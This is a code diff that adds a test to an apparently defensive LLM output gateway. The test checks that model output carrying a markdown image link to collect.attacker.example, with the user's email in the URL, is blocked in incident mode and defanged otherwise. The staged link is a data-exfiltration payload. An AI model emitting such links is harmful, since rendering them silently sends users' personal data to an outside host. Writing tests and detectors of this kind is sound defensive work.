@@ -217,3 +217,37 @@ describe.each([false, true])('tool-call arguments (stream: %s)', (stream) => {
     expect(await call(chat)).toBe(args);
   });
 });
+
+describe('incident mode', () => {
+  it('blocks an exfiltration attempt outright, plain and streamed, and the record names it', async () => {
+    const text = `Done. ![x](https://collect.attacker.example/p.png?u=${EMAIL})`;
+    const messages = [{ role: 'user' as const, content: USER }];
+    await chat.controls.setIncident(true, { actor: 'test', reason: 'INC-18 exfiltration suspected' });
+    try {
+      fake.setBehaviour({ kind: 'chat', text, chunkSize: 7 });
+      const plain = await chat.openai.chat.completions.create({ model: 'gpt-test', messages }).then(
+        () => undefined,
+        (err: { status?: number; code?: string; headers?: Headers }) => err,
+      );
+      expect(plain).toMatchObject({ status: 403, code: 'output_blocked' });
+      const record = await chat.recordOf(plain?.headers?.get('x-gatehouse-request-id') as string);
+      expect(record).toMatchObject({ status: 403, reason: 'output_blocked' });
+      expect(record?.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_pii', action: 'block' }));
+
+      let streamed = '';
+      const failure = await (async () => {
+        const chunks = await chat.openai.chat.completions.create({ model: 'gpt-test', messages, stream: true });
+        for await (const chunk of chunks) streamed += chunk.choices[0]?.delta?.content ?? '';
+      })().then(
+        () => undefined,
+        (err: Error) => err,
+      );
+      expect(failure?.message).toMatch(/exfiltration/);
+      expect(streamed).not.toContain('attacker');
+    } finally {
+      await chat.controls.setIncident(false, { actor: 'test', reason: 'INC-18 closed' });
+    }
+    // Back to monitoring: the same answer is defanged and delivered.
+    expect((await ask(chat, text, false)).content).toBe(`Done. x (image: \`https://collect.attacker.example/p.png?u=${EMAIL}\`)`);
+  });
+});
